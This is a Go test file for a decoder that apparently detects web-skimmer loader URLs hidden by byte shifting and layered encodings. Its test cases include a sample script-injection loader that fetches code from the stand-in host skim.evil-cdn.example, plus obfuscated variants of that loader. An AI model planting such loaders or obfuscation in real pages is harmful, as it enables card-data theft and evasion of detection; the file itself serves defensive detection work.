package decode

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
)

// shiftBy moves every byte of s by k, as a skimmer's encoder does.
func shiftBy(s string, k int) string {
	b := []byte(s)
	for i, c := range b {
		b[i] = byte(int(c) + k)
	}
	return string(b)
}

// percentAll percent-encodes every byte of s.
func percentAll(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

func TestByteShift(t *testing.T) {
	t.Parallel()
	runFamily(t, ByteShift, byteShiftCases())
}

func byteShiftCases() []familyCase {
	var tests []familyCase
	for _, k := range []int{-5, -4, -3, -2, -1, 1, 2, 3, 4, 5} {
		s := shiftBy(testURL, k)
		if strings.ContainsAny(s, `'\`) {
			continue // the sample's quote or an escape: see the escaped rows
		}
		tests = append(tests, familyCase{name: fmt.Sprintf("shift %+d", k), in: "var s='" + s + "';", chain: "shift", text: testURL, at: s})
	}
	escaped := url.QueryEscape(testURL) // https%3A%2F%2Fskim.evil-cdn.example%2Fc.js
	tests = append(tests, []familyCase{
		{name: "a whole loader", in: "var p=\"" + shiftBy("var s=document.createElement('script');s.src='"+testURL+"';", 1) + "\";", chain: "shift", text: testURL},
		{name: "protocol-relative", in: "u=`" + shiftBy("//skim.evil-cdn.example/c.js", -2) + "`", chain: "shift", text: "//skim.evil-cdn.example/c.js"},
		{name: "then url-encoded", in: "var s='" + shiftBy(escaped, 1) + "';", chain: "shift>url-encoded", text: testURL},
		{name: "then every byte url-encoded", in: "var s='" + shiftBy(percentAll(testURL), 4) + "';", chain: "shift>url-encoded", text: testURL},
		{name: "hex-escaped", in: "var s='" + hexEsc(shiftBy(testURL, 1), 1) + "';", chain: "hex-escape>shift", text: testURL},
		{name: "base64 of a shift", in: "var s=atob('" + b64(shiftBy(testURL, 3)) + "');", chain: "base64>shift", text: testURL},
		{name: "concatenated", in: "var s='" + shiftBy(testURL[:12], 1) + "'+'" + shiftBy(testURL[12:], 1) + "';", chain: "concat>shift", text: testURL},
		{name: "ip", in: "var s='" + shiftBy("http://203.0.113.7/p", 1) + "';", chain: "shift", text: "http://203.0.113.7/p"},

		{name: "plain url", in: "var s='" + testURL + "';"},
		{name: "query string", in: "var q='?page=22&sort=11&x=33';"},
		{name: "times", in: "var t='10:22 <11 =22 >33 ?44';"},
		{name: "css", in: "a{margin:0;00px}b{width:5**;} c{x:8--y}"},
		{name: "short host", in: "var s='" + shiftBy("https://a.io/x", 1) + "';"},
		{name: "no host", in: "var s='" + shiftBy("https://localhost/", 1) + "';"},
		{name: "caesar is not a byte shift", in: "var s='" + rot13(testURL) + "';"},
		{name: "minified", in: "for(var i=0;i<n;i++){a[i]=b[i]-1;c+=d.charCodeAt(i)};x=y?44:55;"},
	}...)
	return tests
}

func TestShiftKey(t *testing.T) {
	t.Parallel()
	// The indicator at every offset within and across the eight-byte words.
	for pad := range 20 {
		for _, k := range []int{-5, 2} {
			for _, u := range []string{"https://skim.evil-cdn.example/", "https%3A%2F%2Fskim.evil-cdn.example"} {
				in := strings.Repeat("x", pad) + shiftBy(u, k)
				if got := shiftKey([]byte(in)); got != k {
					t.Errorf("shiftKey(%q) = %d, want %d", in, got, k)
				}
			}
		}
	}
	for k := -maxShift; k <= maxShift; k++ {
		want := k
		in := shiftBy("https://skim.evil-cdn.example/", k)
		if got := shiftKey([]byte(in)); got != want {
			t.Errorf("shiftKey(%q) = %d, want %d", in, got, want)
		}
	}
}

func TestBetween(t *testing.T) {
	t.Parallel()
	for c := range 256 {
		x := uint64(c) << 24
		got := between(x, 0x20, 0x35)>>31&1 == 1
		if want := c > 0x20 && c < 0x35; got != want {
			t.Errorf("between(byte %#x, 0x20, 0x35) = %v, want %v", c, got, want)
		}
	}
}
